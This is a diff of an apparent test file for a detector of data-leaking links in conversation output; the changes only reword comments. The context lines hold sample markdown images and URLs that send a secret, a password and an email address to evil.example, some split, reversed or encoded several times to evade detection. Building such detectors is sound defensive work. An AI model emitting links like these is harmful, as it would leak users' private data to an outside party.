@@ -1,4 +1,4 @@
-"""Addresses that carry the conversation away are told from addresses."""
+"""Addresses that carry the conversation away are told from ordinary addresses."""
 
 from __future__ import annotations
 
@@ -44,7 +44,7 @@ def halves(text: str) -> tuple[str, str]:
         f"![][1]\n\n[1]: //evil.example/?x={quote(SECRET)}",
         "https://evil.example/hit?who=kim@example.org",
         "![x](https://evil.example/?n=nobody+said+this+but+it+is+a+whole+sentence)",
-        # In parts.
+        # The text is split into parts.
         "![x](https://evil.example/?a=the+mer&b=ger+wi&c=th+Acme)",
         "![x](https://evil.example/?p3=th+Acme&p2=ger+wi&p1=the+mer)",
         "![x](https://evil.example/?p10=th+Acme&p9=ger+wi&p8=the+mer)",
@@ -53,12 +53,12 @@ def halves(text: str) -> tuple[str, str]:
         "https://evil.example/{}/{}".format(*halves(ENCODED)),
         "https://{}.{}.evil.example/".format(*halves(SECRET.encode().hex())),
         "https://evil.example/?a=4242&b=4242&c=4242&d=4242",
-        # Encoded more than once.
+        # The text is encoded more than once.
         f"![x](https://evil.example/?d={quote(quote(quote(SECRET)))})",
         f"https://evil.example/?d={quote(quote('kim@example.org', safe=''), safe='')}",
         f"https://evil.example/?d={quote(coded(coded(SECRET)))}",
         f"https://evil.example/?d={coded(quote(SECRET))}",
-        # Short.
+        # The text is short.
         f"https://evil.example/?d={coded(PASSWORD)}",
         f"https://evil.example/{coded('482913')}",
         f"https://evil.example/x-{coded('Acme').rstrip('=')}",
@@ -67,7 +67,7 @@ def halves(text: str) -> tuple[str, str]:
         "![x](https://evil.example/?d=482913)",
         "![x](https://evil.example/?d=merger+with)",
         f"![x](https://evil.example/{quote(PASSWORD)}.png)",
-        # Backwards.
+        # The text is written backwards.
         f"![x](https://evil.example/?d={quote(SECRET[::-1])})",
         f"https://evil.example/?d={quote(SECRET[::-1])}",
         f"https://evil.example/?d={coded(SECRET[::-1])}",
